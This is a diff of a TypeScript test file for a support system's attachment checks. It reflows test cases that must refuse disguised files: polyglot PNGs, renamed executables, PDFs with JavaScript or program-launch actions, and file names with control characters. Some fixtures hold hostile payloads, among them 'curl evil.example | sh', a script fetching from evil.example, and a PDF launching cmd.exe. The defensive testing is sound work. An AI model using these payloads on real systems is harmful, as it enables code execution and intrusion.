@@ -12,8 +12,12 @@ const tempDir = useTempDir();
 const opened: CounterCore[] = [];
 afterEach(() => opened.splice(0).forEach((c) => c.close()));
 
-const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d2b3a30000000049454e44ae426082', 'hex');
-const pdf = (body: string) => Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
+const PNG = Buffer.from(
+  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d2b3a30000000049454e44ae426082',
+  'hex',
+);
+const pdf = (body: string) =>
+  Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
 /** A PDF whose only action hides in a compressed object stream, where a plain byte search does not see it. */
 const pdfWithHiddenScript = Buffer.concat([
   Buffer.from('%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n', 'latin1'),
@@ -30,9 +34,21 @@ function setup() {
   const { core } = openTestCore(dir);
   opened.push(core);
   const router = createRouter(testHandlers(core));
-  const c = core.support.open({ networkId: 'demo-it', subject: 'Etichetta', email: 'shop@example.com', product: 'scanner', requestType: 'technical', impact: 'blocked', description: 'x' });
+  const c = core.support.open({
+    networkId: 'demo-it',
+    subject: 'Etichetta',
+    email: 'shop@example.com',
+    product: 'scanner',
+    requestType: 'technical',
+    impact: 'blocked',
+    description: 'x',
+  });
   const reply = (files: { fileName: string; mimeType: string; bytes: Buffer }[]) =>
-    router.dispatch('support.reply', { caseId: c.id, body: 'see attached', attachments: files.map((f) => ({ fileName: f.fileName, mimeType: f.mimeType, base64: b64(f.bytes) })) });
+    router.dispatch('support.reply', {
+      caseId: c.id,
+      body: 'see attached',
+      attachments: files.map((f) => ({ fileName: f.fileName, mimeType: f.mimeType, base64: b64(f.bytes) })),
+    });
   const written = () => {
     const folder = join(dir, ATTACHMENTS_DIR_NAME);
     return existsSync(folder) ? readdirSync(folder) : [];
@@ -42,22 +58,73 @@ function setup() {
 
 describe('attachments are judged by their content, whatever their name', () => {
   const refused: [string, { fileName: string; mimeType: string; bytes: Buffer }][] = [
-    ['a PNG that is also an HTML page', { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('<html><script>alert(1)</script></html>')]) }],
-    ['a PNG with HTML inside its chunks', { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG.subarray(0, 33), Buffer.from('<script src=//x>'), PNG.subarray(33)]) }],
-    ['a PNG carrying a ZIP after its end', { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('PK\x03\x04\x14\x00\x00\x00', 'latin1')]) }],
-    ['a PNG with bytes after its end', { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('trailing')]) }],
-    ['a "PNG" whose first bytes are right and the rest is not', { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG.subarray(0, 8), Buffer.from('not an image at all, IEND'), Buffer.alloc(8, 1)]) }],
+    [
+      'a PNG that is also an HTML page',
+      { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('<html><script>alert(1)</script></html>')]) },
+    ],
+    [
+      'a PNG with HTML inside its chunks',
+      {
+        fileName: 'photo.png',
+        mimeType: 'image/png',
+        bytes: Buffer.concat([PNG.subarray(0, 33), Buffer.from('<script src=//x>'), PNG.subarray(33)]),
+      },
+    ],
+    [
+      'a PNG carrying a ZIP after its end',
+      { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('PK\x03\x04\x14\x00\x00\x00', 'latin1')]) },
+    ],
+    [
+      'a PNG with bytes after its end',
+      { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('trailing')]) },
+    ],
+    [
+      'a "PNG" whose first bytes are right and the rest is not',
+      {
+        fileName: 'photo.png',
+        mimeType: 'image/png',
+        bytes: Buffer.concat([PNG.subarray(0, 8), Buffer.from('not an image at all, IEND'), Buffer.alloc(8, 1)]),
+      },
+    ],
     ['a Windows program named .txt', { fileName: 'notes.txt', mimeType: 'text/plain', bytes: EXE }],
     ['a Linux program named .log', { fileName: 'scanner.log', mimeType: 'text/plain', bytes: ELF }],
-    ['a ZIP named .csv', { fileName: 'list.csv', mimeType: 'text/csv', bytes: Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(40)]) }],
-    ['a shell script named .txt', { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }],
-    ['an HTML page named .txt', { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from('Hello\n<script>fetch("//evil.example")</script>') }],
-    ['a PDF with JavaScript', { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>') }],
-    ['a PDF with JavaScript spelt with #xx escapes', { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>') }],
-    ['a PDF with JavaScript inside a compressed object stream', { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdfWithHiddenScript }],
-    ['a PDF that launches a program', { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /Launch /F (cmd.exe) >>') }],
+    [
+      'a ZIP named .csv',
+      {
+        fileName: 'list.csv',
+        mimeType: 'text/csv',
+        bytes: Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(40)]),
+      },
+    ],
+    [
+      'a shell script named .txt',
+      { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') },
+    ],
+    [
+      'an HTML page named .txt',
+      { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from('Hello\n<script>fetch("//evil.example")</script>') },
+    ],
+    [
+      'a PDF with JavaScript',
+      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>') },
+    ],
+    [
+      'a PDF with JavaScript spelt with #xx escapes',
+      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>') },
+    ],
+    [
+      'a PDF with JavaScript inside a compressed object stream',
+      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdfWithHiddenScript },
+    ],
+    [
+      'a PDF that launches a program',
+      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /Launch /F (cmd.exe) >>') },
+    ],
     ['a PDF carrying files', { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/Names << /EmbeddedFiles 3 0 R >>') }],
-    ['a text file that is not UTF-8 text', { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from([0x68, 0x69, 0xff, 0xfe, 0x00]) }],
+    [
+      'a text file that is not UTF-8 text',
+      { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from([0x68, 0x69, 0xff, 0xfe, 0x00]) },
+    ],
   ];
 
   it.each(refused)('refuses %s, and writes nothing of the message', async (_name, file) => {
@@ -89,11 +156,19 @@ describe('attachment names', () => {
       { fileName: 'a\u0000b\u0007\u2066c\u2069.txt', mimeType: 'text/plain', bytes: Buffer.from('hi') },
     ]);
     expect(answer).toMatchObject({ ok: true });
-    expect(core.support.messages(caseId).at(-1)!.attachments.map((a) => a.fileName)).toEqual(['phototxt.png', 'abc.txt']);
+    expect(
+      core.support
+        .messages(caseId)
+        .at(-1)!
+        .attachments.map((a) => a.fileName),
+    ).toEqual(['phototxt.png', 'abc.txt']);
   });
 
   it('refuse a name that is nothing but such characters', async () => {
     const { reply } = setup();
-    expect(await reply([{ fileName: '\u202e\u0000', mimeType: 'text/plain', bytes: Buffer.from('hi') }])).toMatchObject({ ok: false, error: { code: 'BAD_INPUT' } });
+    expect(await reply([{ fileName: '\u202e\u0000', mimeType: 'text/plain', bytes: Buffer.from('hi') }])).toMatchObject({
+      ok: false,
+      error: { code: 'BAD_INPUT' },
+    });
   });
 });
